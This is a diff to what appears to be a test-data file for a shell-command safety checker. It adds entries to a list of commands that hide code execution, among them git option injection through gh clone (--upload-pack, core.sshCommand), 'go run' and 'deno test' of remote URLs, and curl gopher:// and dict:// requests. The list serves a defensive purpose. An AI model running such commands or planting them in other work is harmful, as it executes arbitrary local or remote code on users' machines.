@@ -123,6 +123,9 @@ HIDDEN: dict[str, list[str]] = {
         "rsync -e ./p a.txt h:", "rsync --rsh=./p a.txt h:", "rsync -ae./p a.txt h:", "rsync --rsync-path='factor 7' a.txt .", "scp -S ./p a.txt h:", "scp -oProxyCommand='factor 7' a.txt h:", "ssh -oProxyCommand='factor 7' h", "ssh -F a.txt h", "curl -K a.txt", "curl --conf a.txt",
         "wget --use-askpass=./p h", "wget -e use_proxy=on h", "tcpdump -z ./p -r x", "apt-get -o APT::Update::Pre-Invoke::=./p update", "dpkg --pre-invoke=./p -l", "docker run x", "kubectl exec x", "at now < p", "batch < p", "crontab p", "systemd-run ./p", "busctl", "logsave x ./p",
         "xdg-open p", "su -c ./p", "sudo ./p", "runuser -u x ./p", "pkexec ./p", "chroot . /p", "dbus-run-session ./p", "parallel ./p ::: 1", "entr ./p < a.txt", "cpio -i --rsh-command=./p -F h:x", "csh -c 'factor 7'", "fish -c 'factor 7'", "zsh -c 'factor 7'", "ksh -c 'factor 7'",
+        "gh repo clone o/r -- -u./p", "gh repo clone o/r y -- --upload-pack=./p", "gh gist clone x -- -c core.sshCommand=./p", "cloc --vcs=./p", "cloc --vcs ./p .",
+        "go run example.com/x@latest", "go run -race example.com/x@v1", "deno test https://h/x.ts", "deno check -q https://h/x.ts", "curl gopher://h:25/_x", "curl -s '{gopher,http}://h/_x'",
+        "curl --url gopher://h/_x", "curl dict://h:11/x",
     ],
     "bash and the grammar differ": [
         "{git,push,origin,main}\n}", "{factor,7}\n}", "{factor,7}\n)", "{factor,7};\n}", "{factor,7} \n fi", "{./p,}\n}", "{,./p}\n}", "{eval,factor\\ 7}\n}", "{factor,7}\ndone", "{factor,7}\n;;", "{factor,7}\nesac", "{sed,-n,-frun.sed,a.txt}\n}",
